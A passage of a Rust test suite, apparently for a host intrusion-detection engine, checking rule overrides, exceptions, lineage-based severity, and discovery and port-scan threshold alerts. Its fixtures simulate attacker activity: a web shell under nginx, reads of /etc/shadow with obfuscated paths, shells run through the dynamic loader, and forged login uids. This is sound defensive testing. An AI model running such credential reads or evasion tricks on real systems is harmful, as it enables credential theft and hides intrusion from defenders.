    assert!(repeats(e.take(&quiet(50))).is_empty());
    assert_eq!(repeats(e.take(&quiet(70))), [("/tmp/a".to_owned(), 2)]);
    assert!(repeats(e.take(&quiet(80))).is_empty());
    assert_eq!(repeats(e.take(&quiet(100))), [("/tmp/b".to_owned(), 2)]);
    assert!(e.flush().is_empty());
}

/// A rule directory holding `files`, removed when dropped.
struct RuleDir(std::path::PathBuf);

impl RuleDir {
    fn new(files: &[(&str, &str)]) -> Self {
        use std::sync::atomic::{AtomicU32, Ordering};
        static N: AtomicU32 = AtomicU32::new(0);
        let dir = std::env::temp_dir().join(format!(
            "edgewatch-tuning-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        std::fs::create_dir_all(&dir).expect("dir");
        for (name, text) in files {
            std::fs::write(dir.join(name), text).expect("write");
        }
        Self(dir)
    }

    fn load(&self, disabled: &[&str]) -> Result<Vec<rule::Rule>, rule::RuleError> {
        let disabled: Vec<String> = disabled.iter().map(|s| (*s).to_owned()).collect();
        rule::load_pack(true, std::slice::from_ref(&self.0), &disabled).map(|p| p.rules)
    }
}

impl Drop for RuleDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The web shell of `web_shell_spawning_a_shell_alerts`: nginx's worker
/// runs `sh -c id`.
fn web_shell_events() -> Vec<Value> {
    vec![exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "id"],
        &[WORKER, NGINX, INIT],
    )]
}

fn fired_with(rules: Vec<rule::Rule>) -> Vec<String> {
    let mut e = Engine::new(rules);
    web_server(&mut e);
    fired(&mut e, &web_shell_events())
}

#[test]
fn one_builtin_rule_can_be_turned_off() {
    let dir = RuleDir::new(&[]);
    assert!(fired_with(dir.load(&[]).expect("rules")).contains(&"EW-PROC-001".to_owned()));
    let rules = dir.load(&["EW-PROC-001"]).expect("rules");
    assert!(!rules.iter().any(|r| r.id == "EW-PROC-001"));
    assert!(rules.iter().any(|r| r.id == "EW-PROC-002"), "only that one");
    assert!(!fired_with(rules).contains(&"EW-PROC-001".to_owned()));
    // A misspelt id is an error naming the nearest.
    let err = dir.load(&["EW-PROC-01"]).expect_err("unknown id");
    let msg = err.to_string();
    assert!(msg.contains("detect.disabled_rules"), "{msg}");
    assert!(msg.contains("did you mean \"EW-PROC-001\""), "{msg}");
}

#[test]
fn a_user_rule_overrides_one_builtin() {
    let dir = RuleDir::new(&[(
        "local.toml",
        "[[rule]]\nid = \"EW-PROC-001\"\noverrides = \"EW-PROC-001\"\ntitle = \"t\"\nseverity = \"critical\"\nattack = [\"T1190\"]\nkinds = [\"exec\"]\nmatch = [{ field = \"applet\", equals = \"never-run\" }]\n",
    )]);
    let rules = dir.load(&[]).expect("rules");
    let ours: Vec<_> = rules.iter().filter(|r| r.id == "EW-PROC-001").collect();
    assert_eq!(ours.len(), 1);
    assert_eq!(ours[0].severity, rule::Severity::Critical);
    assert!(!fired_with(rules).contains(&"EW-PROC-001".to_owned()));
    // Under another id, the built-in goes and the new one runs.
    let dir = RuleDir::new(&[(
        "local.toml",
        "[[rule]]\nid = \"LOCAL-1\"\noverrides = \"EW-PROC-001\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1190\"]\nkinds = [\"exec\"]\nmatch = [{ field = \"exe_name\", equals = \"dash\" }]\n",
    )]);
    let fired = fired_with(dir.load(&[]).expect("rules"));
    assert!(fired.contains(&"LOCAL-1".to_owned()), "{fired:?}");
    assert!(!fired.contains(&"EW-PROC-001".to_owned()), "{fired:?}");
    // Disabled with an override: the built-in is off, nothing replaces it.
    let dir = RuleDir::new(&[(
        "local.toml",
        "[[rule]]\nid = \"EW-PROC-001\"\noverrides = \"EW-PROC-001\"\nenabled = false\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\n",
    )]);
    assert!(!dir
        .load(&[])
        .expect("rules")
        .iter()
        .any(|r| r.id == "EW-PROC-001"));
}

#[test]
fn reusing_a_builtin_id_without_overrides_is_an_error_that_says_what_to_do() {
    for enabled in ["true", "false"] {
        let dir = RuleDir::new(&[(
            "local.toml",
            &format!("[[rule]]\nid = \"EW-PROC-003\"\ntitle = \"t\"\nseverity = \"low\"\nenabled = {enabled}\nkinds = [\"exec\"]\n"),
        )]);
        let msg = dir.load(&[]).expect_err("duplicate").to_string();
        assert!(
            msg.contains(
                "local.toml:2:6: rule id EW-PROC-003 is already defined at <builtin rules>:"
            ),
            "{msg}"
        );
        assert!(msg.contains("overrides = \"EW-PROC-003\""), "{msg}");
        assert!(msg.contains("detect.disabled_rules"), "{msg}");
    }
    // Overriding a rule nobody defined, or one rule twice.
    let dir = RuleDir::new(&[(
        "local.toml",
        "[[rule]]\nid = \"L-1\"\noverrides = \"EW-PROC-0001\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\n",
    )]);
    let msg = dir.load(&[]).expect_err("unknown").to_string();
    assert!(
        msg.contains("local.toml:3:13: overrides \"EW-PROC-0001\""),
        "{msg}"
    );
    assert!(msg.contains("did you mean \"EW-PROC-001\""), "{msg}");
    let twice = "[[rule]]\nid = \"L-1\"\noverrides = \"EW-PROC-001\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\n\n[[rule]]\nid = \"L-2\"\noverrides = \"EW-PROC-001\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\n";
    let dir = RuleDir::new(&[("local.toml", twice)]);
    let msg = dir.load(&[]).expect_err("twice").to_string();
    assert!(
        msg.contains("EW-PROC-001 is already overridden at"),
        "{msg}"
    );
}

#[test]
fn an_exception_silences_one_case_of_a_builtin_without_copying_it() {
    let dir = RuleDir::new(&[(
        "exceptions.toml",
        "[[exception]]\nrule = \"EW-PROC-001\"\ncomment = \"the web UI runs id for its status page\"\nmatch = [{ field = \"cmdline\", equals = \"sh -c id\" }]\n",
    )]);
    let rules = dir.load(&[]).expect("rules");
    assert!(!fired_with(rules.clone()).contains(&"EW-PROC-001".to_owned()));
    // Another command through the same service still alerts.
    let mut e = Engine::new(rules);
    web_server(&mut e);
    let other = exec(
        1,
        201,
        "/usr/bin/dash",
        &["sh", "-c", "uname -a"],
        &[WORKER, NGINX, INIT],
    );
    assert!(fired(&mut e, &[other]).contains(&"EW-PROC-001".to_owned()));
    // An exception for a rule nobody defined.
    let dir = RuleDir::new(&[(
        "exceptions.toml",
        "[[exception]]\nrule = \"EW-PROC-01\"\nmatch = [{ field = \"cmdline\", equals = \"x\" }]\n",
    )]);
    let msg = dir.load(&[]).expect_err("unknown").to_string();
    assert!(
        msg.contains("exceptions.toml:2:8: an exception for \"EW-PROC-01\""),
        "{msg}"
    );
    // An exception without conditions would turn the rule off.
    let dir = RuleDir::new(&[(
        "exceptions.toml",
        "[[exception]]\nrule = \"EW-PROC-001\"\nmatch = []\n",
    )]);
    assert!(dir.load(&[]).is_err());
}

#[test]
fn named_lists_serve_in_conditions_of_any_file() {
    let dir = RuleDir::new(&[
        ("a-lists.toml", "[lists]\nweb_ui_commands = [\"sh -c id\", \"sh -c uptime\"]\n"),
        (
            "b-exceptions.toml",
            "[[exception]]\nrule = \"EW-PROC-001\"\nmatch = [{ field = \"cmdline\", in = \"web_ui_commands\" }]\n",
        ),
    ]);
    assert!(!fired_with(dir.load(&[]).expect("rules")).contains(&"EW-PROC-001".to_owned()));
    let dir = RuleDir::new(&[(
        "b.toml",
        "[[exception]]\nrule = \"EW-PROC-001\"\nmatch = [{ field = \"cmdline\", in = \"web_ui_comands\" }]\n",
    )]);
    let msg = dir.load(&[]).expect_err("no such list").to_string();
    assert!(
        msg.contains("b.toml:3:36: no list named \"web_ui_comands\""),
        "{msg}"
    );
    let dir = RuleDir::new(&[
        ("a.toml", "[lists]\nx = [1]\n"),
        ("b.toml", "[lists]\nx = [2]\n"),
    ]);
    let msg = dir.load(&[]).expect_err("twice").to_string();
    assert!(
        msg.contains("b.toml:2:1: list \"x\" is already defined at"),
        "{msg}"
    );
}

/// The README's tuning example loads, and does what it says.
#[test]
fn readme_tuning_example_loads() {
    let readme = include_str!("../../../README.md");
    let start = readme
        .find("# In a file of detect.rule_paths.")
        .expect("the README has the tuning example");
    let text = &readme[start..];
    let text = &text[..text.find("```").expect("end of the example")];
    let dir = RuleDir::new(&[("tuning.toml", text)]);
    let rules = dir.load(&["EW-PROC-007"]).expect("the example loads");
    let r = rules
        .iter()
        .find(|r| r.id == "EW-PROC-003")
        .expect("the override");
    assert_eq!(r.severity, rule::Severity::Low);
    let mut e = Engine::new(rules);
    let lighttpd = (100, "/usr/sbin/lighttpd");
    let listen = net(0, "listen", lighttpd.0, lighttpd.1, &[INIT], 80);
    assert!(fired(&mut e, &[listen]).is_empty());
    let status = exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "uptime"],
        &[lighttpd, INIT],
    );
    assert!(fired(&mut e, &[status]).is_empty());
    let other = exec(
        2,
        201,
        "/usr/bin/dash",
        &["sh", "-c", "id"],
        &[lighttpd, INIT],
    );
    assert!(fired(&mut e, &[other]).contains(&"EW-PROC-001".to_owned()));
}

/// Derived fields are computed once per event, and an `ancestor`
/// condition's derived fields are the ancestor's, never the event's.
#[test]
fn derived_fields_of_the_event_and_of_its_ancestors_stay_apart() {
    let text = "[[rule]]\nid = \"D-1\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\nmatch = [{ field = \"exe_name\", equals = \"dash\" }, { ancestor = [{ field = \"exe_name\", equals = \"nginx\" }] }, { field = \"exe_name\", in = [\"dash\"] }]\n\n[[rule]]\nid = \"D-2\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\nmatch = [{ field = \"exe_name\", equals = \"dash\" }, { ancestor = [{ field = \"exe_name\", equals = \"dash\" }] }]\n\n[[rule]]\nid = \"D-3\"\ntitle = \"t\"\nseverity = \"low\"\nmatch = [{ field = \"exe_name\", equals = \"nginx\" }]\n";
    let rules = rule::parse(&Source {
        name: "d.toml",
        text,
    })
    .expect("rules");
    let mut e = Engine::new(rules);
    let ev = exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "id"],
        &[WORKER, NGINX, INIT],
    );
    assert_eq!(fired(&mut e, &[ev]), ["D-1"]);
    // A rule without kinds runs for every kind, a listen too.
    let listen = net(2, "listen", 300, "/usr/sbin/nginx", &[INIT], 8080);
    assert_eq!(fired(&mut e, &[listen]), ["D-3"]);
}

/// A service that writes its own loginuid does not become a login session:
/// sessions are known by lineage, and the write is an alert of its own.
#[test]
fn a_forged_loginuid_does_not_make_a_service_a_session() {
    let mut e = builtin();
    web_server(&mut e);
    let forged = with(
        with(
            exec(
                1,
                200,
                "/usr/bin/dash",
                &["sh", "-c", "id"],
                &[WORKER, NGINX, INIT],
            ),
            "auid",
            json!(1000),
        ),
        "loginuid_set_by",
        json!("/usr/sbin/nginx"),
    );
    let ids = fired(&mut e, &[forged]);
    assert!(ids.contains(&"EW-PROC-001".to_owned()), "{ids:?}");
    assert!(ids.contains(&"EW-EVADE-005".to_owned()), "{ids:?}");
    // sshd setting it when a session opens is how sessions start.
    let mut e = builtin();
    let session = [(60, "/usr/sbin/sshd"), SSHD, INIT];
    let shell = with(
        with(
            exec(2, 70, "/usr/bin/bash", &["-bash"], &session),
            "auid",
            json!(1000),
        ),
        "loginuid_set_by",
        json!("/usr/sbin/sshd"),
    );
    assert!(fired(&mut e, &[shell]).is_empty());
}

/// Below sshd's session, commands are an admin's even without an audit
/// login uid (a kernel without audit, dropbear); a web server the admin
/// started by hand is still a service.
#[test]
fn login_sessions_are_known_by_lineage() {
    let mut e = builtin();
    let listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
    assert!(fired(&mut e, &[listen]).is_empty());
    let shell = [(70, "/usr/bin/bash"), (60, "/usr/sbin/sshd"), SSHD, INIT];
    let cmd = exec(2, 71, "/usr/bin/cat", &["cat", "/etc/shadow"], &shell);
    let alerts: Vec<_> = [cmd].iter().flat_map(|c| e.take(c)).collect();
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].rule, "EW-CRED-001");
    assert_eq!(
        alerts[0].severity,
        rule::Severity::Low,
        "an admin's own read"
    );
    // The admin's hand-started web server, then a shell injected through it.
    let py = (80, "/usr/bin/python3.11");
    let listen = net(3, "listen", py.0, py.1, &shell, 8080);
    assert!(fired(&mut e, &[listen]).is_empty());
    let injected = exec(
        4,
        81,
        "/usr/bin/dash",
        &["sh", "-c", "id"],
        &[
            py,
            (70, "/usr/bin/bash"),
            (60, "/usr/sbin/sshd"),
            SSHD,
            INIT,
        ],
    );
    assert_eq!(fired(&mut e, &[injected]), ["EW-PROC-001"]);
    // An sshd copy in /tmp is not a login service.
    let fake = [(90, "/tmp/sshd"), NGINX, INIT];
    let mut e = builtin();
    web_server(&mut e);
    let sh = with(
        exec(5, 91, "/usr/bin/dash", &["sh", "-c", "id"], &fake),
        "auid",
        json!(1000),
    );
    assert!(fired(&mut e, &[sh]).contains(&"EW-PROC-001".to_owned()));
}

/// A `#!` script, or a script handed to an interpreter, is located where
/// the script is, not where the interpreter is.
#[test]
fn scripts_are_located_where_they_are() {
    let mut e = builtin();
    let cron = [(30, "/usr/sbin/cron"), INIT];
    // The kernel's argv of `#!/bin/sh -e` in /tmp/.x/run: sh, -e, the path.
    let shebang = with(
        exec(
            1,
            300,
            "/usr/bin/dash",
            &["/bin/sh", "-e", "./run", "a"],
            &cron,
        ),
        "cwd",
        json!("/tmp/.x"),
    );
    assert_eq!(fired(&mut e, &[shebang]), ["EW-PROC-003"]);
    let py = exec(
        2,
        301,
        "/usr/bin/python3.11",
        &["python3", "-u", "/dev/shm/p.py"],
        &cron,
    );
    assert_eq!(fired(&mut e, &[py]), ["EW-PROC-003"]);
    // Inline programs and system scripts are not.
    let inline = exec(3, 302, "/usr/bin/dash", &["sh", "-c", "/tmp/x"], &cron);
    let system = exec(
        4,
        303,
        "/usr/bin/dash",
        &["sh", "/usr/local/bin/backup.sh"],
        &cron,
    );
    let module = exec(
        5,
        304,
        "/usr/bin/python3.11",
        &["python3", "-m", "http.server"],
        &cron,
    );
    assert!(fired(&mut e, &[inline, system, module]).is_empty());
    // A path cut at its root end is not taken for an absolute one.
    let deep = with(
        exec(6, 305, "...//a/b/c/x", &["x"], &cron),
        "exe_truncated",
        json!(true),
    );
    assert_eq!(fired(&mut e, &[deep]), ["EW-PROC-003"]);
}

/// The dynamic loader run directly is not the program: the program is.
#[test]
fn the_dynamic_loader_is_seen_through() {
    let mut e = builtin();
    web_server(&mut e);
    let ld = exec(
        1,
        200,
        "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        &["/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", "id"],
        &[WORKER, NGINX, INIT],
    );
    let ids = fired(&mut e, &[ld]);
    assert!(
        ids.contains(&"EW-PROC-001".to_owned()),
        "the shell is seen: {ids:?}"
    );
    assert!(ids.contains(&"EW-EVADE-004".to_owned()), "{ids:?}");
    let mut e = builtin();
    let ldd = exec(
        2,
        201,
        "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        &["/lib64/ld-linux-x86-64.so.2", "--verify", "/bin/ls"],
        &[(40, "/usr/bin/bash"), INIT],
    );
    assert!(fired(&mut e, &[ldd]).is_empty());
}

/// Paths in arguments are compared made absolute and normal.
#[test]
fn credential_paths_are_normalised() {
    let mut e = builtin();
    let chain = [(40, "/usr/bin/bash"), NGINX, INIT];
    for (i, argv) in [
        &["cat", "//etc/shadow"][..],
        &["cat", "/etc/./ssl/../shadow"],
        &["dd", "if=/etc//shadow"],
    ]
    .into_iter()
    .enumerate()
    {
        let mut e2 = builtin();
        let ev = exec(
            1,
            300 + i as u64,
            &format!("/usr/bin/{}", argv[0]),
            argv,
            &chain,
        );
        assert_eq!(fired(&mut e2, &[ev]), ["EW-CRED-001"], "{argv:?}");
    }
    let relative = with(
        exec(2, 310, "/usr/bin/cat", &["cat", "shadow"], &chain),
        "cwd",
        json!("/etc"),
    );
    assert_eq!(fired(&mut e, &[relative]), ["EW-CRED-001"]);
}

/// The system loading its declared firewall and sysctl settings, and an
/// admin sniffing in a session, are at most `low`; the same from a web
/// service keeps its severity.
#[test]
fn severity_follows_the_lineage() {
    let change = |pid: u64,
                  change: &str,
                  exe: &str,
                  argv: &[&str],
                  chain: &[(u64, &str)],
                  extra: Value| {
        let mut v = json!({
            "kind": "config_change", "ts": ts(1), "change": change,
            "process": {"pid": pid, "comm": "x", "uid": 0, "exe": exe, "argv": argv, "ancestry": ancestry(chain)},
        });
        for (k, x) in extra.as_object().expect("object") {
            v[k] = x.clone();
        }
        v
    };
    let severities = |e: &mut Engine, ev: Value| -> Vec<(String, rule::Severity)> {
        e.take(&ev)
            .into_iter()
            .map(|a| (a.rule, a.severity))
            .collect()
    };
    let boot = [(20, "/usr/bin/dash"), INIT];
    let mut e = builtin();
    web_server(&mut e);
    let restore = change(
        21,
        "netfilter",
        "/usr/sbin/xtables-nft-multi",
        &["iptables-restore"],
        &boot,
        json!({}),
    );
    assert_eq!(
        severities(&mut e, restore),
        [("EW-CFG-002".to_owned(), rule::Severity::Low)]
    );
    let nft = change(
        22,
        "netfilter",
        "/usr/sbin/nft",
        &["nft", "-f", "/etc/nftables.conf"],
        &boot,
        json!({}),
    );
    assert_eq!(
        severities(&mut e, nft),
        [("EW-CFG-002".to_owned(), rule::Severity::Low)]
    );
    let sysctl = change(
        23,
        "sysctl",
        "/usr/sbin/sysctl",
        &["sysctl", "-p"],
        &boot,
        json!({"enabled": true, "sysctl": "net/ipv4/ip_forward"}),
    );
    assert_eq!(
        severities(&mut e, sysctl),
        [("EW-CFG-001".to_owned(), rule::Severity::Low)]
    );
    // The same ruleset load from below the web server is not declared config.
    let web = [(200, "/usr/bin/dash"), WORKER, NGINX, INIT];
    let injected = change(
        201,
        "netfilter",
        "/usr/sbin/nft",
        &["nft", "-f", "/etc/nftables.conf"],
        &web,
        json!({}),
    );
    assert_eq!(
        severities(&mut e, injected),
        [("EW-CFG-002".to_owned(), rule::Severity::Medium)]
    );
    let typed = change(
        202,
        "netfilter",
        "/usr/sbin/nft",
        &["nft", "add", "rule", "ip", "nat", "x"],
        &boot,
        json!({}),
    );
    assert_eq!(
        severities(&mut e, typed),
        [("EW-CFG-002".to_owned(), rule::Severity::Medium)]
    );
    // tcpdump in an admin's session.
    let session = [(70, "/usr/bin/bash"), (60, "/usr/sbin/sshd"), SSHD, INIT];
    let promisc = change(
        71,
        "promisc",
        "/usr/bin/tcpdump",
        &["tcpdump", "-i", "eth0"],
        &session,
        json!({}),
    );
    assert_eq!(
        severities(&mut e, promisc),
        [("EW-CFG-004".to_owned(), rule::Severity::Low)]
    );
}

/// Threshold rules: distinct values within a window, per lineage or
/// process, one alert each; the built-in discovery and scan rules.
mod threshold {
    use super::*;

    /// A command run by the web shell's `sh` (pid 200) below nginx.
    fn web_cmd(t: u64, pid: u64, exe: &str, argv: &[&str]) -> Value {
        exec(
            t,
            pid,
            exe,
            argv,
            &[(200, "/usr/bin/dash"), WORKER, NGINX, INIT],
        )
    }

    fn count(ids: &[String], rule: &str) -> usize {
        ids.iter().filter(|i| *i == rule).count()
    }

    /// An outbound connect's outcome, from `pid` to `addr:port`.
    fn connect(
        t: u64,
        pid: u64,
        chain: &[(u64, &str)],
        addr: &str,
        port: u16,
        result: &str,
    ) -> Value {
        let mut v = net(
            t,
            "connect_result",
            pid,
            "/usr/bin/python3.11",
            chain,
            40000,
        );
        v["remote"] = json!({"addr": addr, "port": port});
        v["result"] = json!(result);
        if result != "established" {
            v["errno"] = json!(111);
        }
        v
    }

    #[test]
    fn a_discovery_burst_in_a_service_lineage_alerts_once() {
        let mut e = builtin();
        web_server(&mut e);
        let events = [
            web_cmd(1, 201, "/usr/bin/uname", &["uname", "-a"]),
            web_cmd(2, 202, "/usr/bin/id", &["id"]),
            web_cmd(3, 203, "/usr/bin/ip", &["ip", "addr"]),
            web_cmd(4, 204, "/usr/bin/ss", &["ss", "-tan"]),
            web_cmd(5, 205, "/usr/bin/ps", &["ps", "aux"]),
        ];
        let mut alerts = Vec::new();
        for ev in &events {
            alerts.extend(e.take(ev).into_iter().filter(|a| a.rule == "EW-DISC-003"));
        }
        assert_eq!(alerts.len(), 1, "{alerts:?}");
        let a = &alerts[0];
        assert_eq!(a.severity.as_str(), "high");
        assert_eq!(a.lineage, NGINX.0, "the service's lineage");
        assert_eq!(a.evidence.len(), 3, "the three commands that made it");
        assert_eq!(a.evidence[2]["argv"], json!(["ip", "addr"]));
        assert_eq!(a.process["pid"], 203);
        // The same lineage again within the alert's window: quiet.
        let more = [
            web_cmd(60, 206, "/usr/bin/w", &["w"]),
            web_cmd(61, 207, "/usr/bin/netstat", &["netstat", "-an"]),
            web_cmd(62, 208, "/usr/bin/hostname", &["hostname"]),
        ];
        assert_eq!(count(&fired(&mut e, &more), "EW-DISC-003"), 0);
        assert!(e
            .stats
            .deduplicated
            .get("EW-DISC-003")
            .is_some_and(|n| *n >= 3));
    }

    #[test]
    fn files_read_for_the_same_answers_count_as_discovery() {
        let mut e = builtin();
        web_server(&mut e);
        let ids = fired(
            &mut e,
            &[
                web_cmd(1, 201, "/usr/bin/cat", &["cat", "/proc/version"]),
                web_cmd(
                    2,
                    202,
                    "/usr/bin/head",
                    &["head", "-n5", "/etc/resolv.conf"],
                ),
                web_cmd(3, 203, "/usr/bin/cat", &["cat", "/proc/net/tcp"]),
            ],
        );
        assert_eq!(count(&ids, "EW-DISC-003"), 1, "{ids:?}");
    }

    #[test]
    fn one_kind_of_question_repeated_or_changes_stay_quiet() {
        let mut e = builtin();
        web_server(&mut e);
        let ids = fired(
            &mut e,
            &[
                // One category only, however many commands.
                web_cmd(1, 201, "/usr/bin/uname", &["uname", "-a"]),
                web_cmd(2, 202, "/usr/bin/uname", &["uname", "-r"]),
                web_cmd(3, 203, "/usr/bin/hostname", &["hostname"]),
                web_cmd(4, 204, "/usr/bin/cat", &["cat", "/proc/version"]),
            ],
        );
        assert_eq!(count(&ids, "EW-DISC-003"), 0, "{ids:?}");
        // The same command again is one value: two kinds, two commands.
        let mut e = builtin();
        web_server(&mut e);
        let ids = fired(
            &mut e,
            &[
                web_cmd(1, 201, "/usr/bin/id", &["id"]),
                web_cmd(2, 202, "/usr/bin/id", &["id"]),
                web_cmd(3, 203, "/usr/bin/id", &["id"]),
                web_cmd(4, 204, "/usr/bin/uname", &["uname", "-a"]),
            ],
        );
        assert_eq!(count(&ids, "EW-DISC-003"), 0, "{ids:?}");
        // Configuration changes are not questions.
        let mut e = builtin();
        web_server(&mut e);
        let ids = fired(
            &mut e,
            &[
                web_cmd(
                    1,
                    201,
                    "/usr/bin/ip",
                    &["ip", "addr", "add", "10.0.0.1/24", "dev", "eth1"],
                ),
                web_cmd(2, 202, "/usr/bin/hostname", &["hostname", "gw2"]),
                web_cmd(3, 203, "/usr/bin/ip", &["ip", "link", "set", "eth1", "up"]),
                web_cmd(
                    4,
                    204,
                    "/usr/sbin/route",
                    &["route", "add", "default", "gw", "10.0.0.254"],
                ),
                web_cmd(5, 205, "/usr/bin/id", &["id", "-u"]),
            ],
        );
        assert_eq!(count(&ids, "EW-DISC-003"), 0, "{ids:?}");
    }

    #[test]
    fn values_older_than_the_window_do_not_count() {
        let mut e = builtin();
        web_server(&mut e);
        let ids = fired(
            &mut e,
            &[
                web_cmd(0, 201, "/usr/bin/uname", &["uname", "-a"]),
                web_cmd(200, 202, "/usr/bin/id", &["id"]),
                web_cmd(210, 203, "/usr/bin/ip", &["ip", "route"]),
            ],
        );
        assert_eq!(count(&ids, "EW-DISC-003"), 0, "uname is 210 s old: {ids:?}");
        let ids = fired(&mut e, &[web_cmd(220, 204, "/usr/bin/ps", &["ps", "aux"])]);
        assert_eq!(count(&ids, "EW-DISC-003"), 1, "{ids:?}");
    }

    #[test]
    fn login_sessions_and_roots_own_jobs_stay_quiet() {
        let cmds: [(&str, &[&str]); 5] = [
            ("/usr/bin/uname", &["uname", "-a"]),
            ("/usr/bin/id", &["id"]),
            ("/usr/bin/ip", &["ip", "addr"]),
            ("/usr/bin/ss", &["ss", "-tan"]),
            ("/usr/bin/ps", &["ps", "aux"]),
        ];
        let run = |chain: &[(u64, &str)], auid: Option<u64>| {
            let mut e = builtin();
            let listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
            fired(&mut e, &[listen]);
            let events: Vec<Value> = cmds
                .iter()
                .enumerate()
                .map(|(n, (exe, argv))| {
                    let ev = exec(n as u64 + 1, 300 + n as u64, exe, argv, chain);
                    match auid {
                        Some(a) => with(ev, "auid", json!(a)),
                        None => ev,
                    }
                })
                .collect();
            fired(&mut e, &events)
        };
        // An admin's ssh session (below a listening sshd, with a login uid).
        let ssh = [(70, "/usr/bin/bash"), (60, "/usr/sbin/sshd"), SSHD, INIT];
        assert!(run(&ssh, Some(1000)).is_empty());
        // A package's maintainer script under unattended-upgrades, and a
        // systemd unit's start script: root, no login uid, system binaries.
        let postinst = [
            (90, "/usr/bin/dash"),
            (89, "/usr/bin/dpkg"),
            (88, "/usr/bin/python3.11"),
            INIT,
        ];
        assert!(run(&postinst, None).is_empty());
        let unit = [(95, "/usr/bin/bash"), INIT];
        assert!(run(&unit, None).is_empty());
        // A DHCP client's hook script: dhclient forked itself away.
        let dhcp = json!([
            {"pid": 501, "exe": "/usr/bin/dash"},
            {"pid": 500, "exe": "/sbin/dhclient"},
            {"pid": 499, "exe": "/sbin/dhclient", "reparented": true},
            {"pid": 1, "exe": INIT.1},
        ]);
        let mut e = builtin();
        let ids: Vec<String> = cmds
            .iter()
            .enumerate()
            .flat_map(|(n, (exe, argv))| {
                let ev = with(
                    exec(n as u64 + 1, 600 + n as u64, exe, argv, &[]),
                    "ancestry",
                    dhcp.clone(),
                );
                e.take(&with(ev, "ppid", json!(501)))
                    .into_iter()
                    .map(|a| a.rule)
            })
            .collect();
        assert!(ids.is_empty(), "{ids:?}");
    }

    #[test]
    fn a_dropped_program_or_a_detached_shell_alerts_at_medium() {
        let cmds: [(&str, &[&str]); 3] = [
            ("/usr/bin/uname", &["uname", "-a"]),
            ("/usr/bin/id", &["id"]),
            ("/usr/bin/ip", &["ip", "addr"]),
        ];
        let run = |ancestry: Value| {
            let mut e = builtin();
            let mut out = Vec::new();
            for (n, (exe, argv)) in cmds.iter().enumerate() {
                let ev = with(
                    exec(n as u64 + 1, 700 + n as u64, exe, argv, &[]),
                    "ancestry",
                    ancestry.clone(),
                );
                let ppid = ancestry[0]["pid"].clone();
                out.extend(e.take(&with(ev, "ppid", ppid)));
            }
            out.into_iter()
                .filter(|a| a.rule.starts_with("EW-DISC-00"))
                .map(|a| (a.rule, a.severity.as_str().to_owned()))
                .collect::<Vec<_>>()
        };
        let implant = json!([{"pid": 650, "exe": "/tmp/.x/agent"}, {"pid": 1, "exe": INIT.1}]);
        assert_eq!(
            run(implant),
            [("EW-DISC-004".to_owned(), "medium".to_owned())]
        );
        let detached = json!([
            {"pid": 660, "exe": "/usr/bin/dash"},
            {"pid": 659, "exe": "/usr/bin/dash", "reparented": true},
            {"pid": 1, "exe": INIT.1},
        ]);
        assert_eq!(
            run(detached),
            [("EW-DISC-004".to_owned(), "medium".to_owned())]
        );
    }

    #[test]
    fn a_port_sweep_raises_one_alert_per_process() {
        let mut e = builtin();
        let chain = [(70, "/usr/bin/bash"), INIT];
        let mut alerts = Vec::new();
        for port in 0..300u16 {
            let ev = connect(
                1 + u64::from(port) / 100,
                900,
                &chain,
                "127.0.0.1",
                20000 + port,
                "refused",
            );
            alerts.extend(e.take(&ev));
        }
        assert_eq!(
            alerts.len(),
            1,
            "{:?}",
            alerts.iter().map(|a| &a.rule).collect::<Vec<_>>()
        );
        let a = &alerts[0];
        assert_eq!(a.rule, "EW-SCAN-001");
        assert_eq!(a.lineage, 900, "one alert per process: the key is its pid");
        assert_eq!(a.evidence.len(), 8);
        assert!(a
            .connections
            .iter()
            .all(|c| c["remote"]["addr"] == "127.0.0.1"));
        // Another process scanning is another alert.
        let mut more = Vec::new();
        for port in 0..25u16 {
            more.extend(e.take(&connect(
                5,
                901,
                &chain,
                "127.0.0.1",
                30000 + port,
                "refused",
            )));
        }
        assert_eq!(more.len(), 1);
        assert_eq!(more[0].lineage, 901);
    }

    #[test]
    fn a_host_sweep_of_one_port_counts_and_a_service_lineage_is_high() {
        let mut e = builtin();
        web_server(&mut e);
        let chain = [(200, "/usr/bin/dash"), WORKER, NGINX, INIT];
        let mut ids = Vec::new();
        for host in 1..=40u8 {
            let result = if host % 10 == 0 {
                "established"
            } else {
                "timed_out"
            };
            let ev = connect(1, 950, &chain, &format!("10.9.0.{host}"), 22, result);
            ids.extend(e.take(&ev).into_iter().map(|a| (a.rule, a.severity)));
        }
        assert_eq!(ids.len(), 1, "{ids:?}");
        assert_eq!(ids[0].0, "EW-SCAN-002");
        assert_eq!(ids[0].1.as_str(), "high");
    }

    #[test]
    fn health_checks_mirrors_and_browsing_stay_quiet() {
        let mut e = builtin();
        let chain = [(80, "/usr/bin/prometheus-blackbox-exporter"), INIT];
        let mut ids = Vec::new();
        // A health checker: five services, over and over, one of them down.
        for round in 0..60u64 {
            for (n, port) in [80u16, 443, 5432, 6379, 9000].into_iter().enumerate() {
                let result = if n == 4 { "refused" } else { "established" };
                ids.extend(fired(
                    &mut e,
                    &[connect(round, 1000, &chain, "10.0.0.5", port, result)],
                ));
            }
        }
        // A package manager and a browser: many hosts, mostly answered
        // (IPv6 attempts that fail first included).
        for host in 1..=60u16 {
            let addr = format!("198.51.100.{}", host % 250);
            let v6 = format!("2001:db8::{host:x}");
            ids.extend(fired(
                &mut e,
                &[
